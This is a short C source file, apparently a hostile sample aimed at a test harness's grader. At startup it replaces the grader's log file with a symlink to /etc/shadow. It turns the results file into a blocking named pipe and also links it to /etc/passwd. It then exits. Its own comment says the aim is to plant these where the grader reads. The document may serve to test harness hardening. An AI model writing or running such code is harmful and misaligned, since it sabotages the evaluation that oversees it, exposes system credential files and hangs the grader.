/*
 * why: puts links to secret files, and a pipe that blocks its reader, where the grader will read
 * the log and the results.
 */
#include "host_call.h"

AT_START replace_files(int count, char **words)
{
    char *log = host_option(count, words, "--log");
    char *results = host_option(count, words, "--results");
    if (log != 0 && results != 0) {
        host_call(HOST_UNLINK, (long)log, 0, 0, 0);
        host_call(HOST_SYMLINK, (long)"/etc/shadow", (long)log, 0, 0);
        host_call(HOST_UNLINK, (long)results, 0, 0, 0);
        host_call(HOST_MKNOD, (long)results, 010666, 0, 0);
        host_call(HOST_SYMLINK, (long)"/etc/passwd", (long)results, 0, 0);
    }
    host_call(HOST_EXIT_GROUP, 0, 0, 0, 0);
}
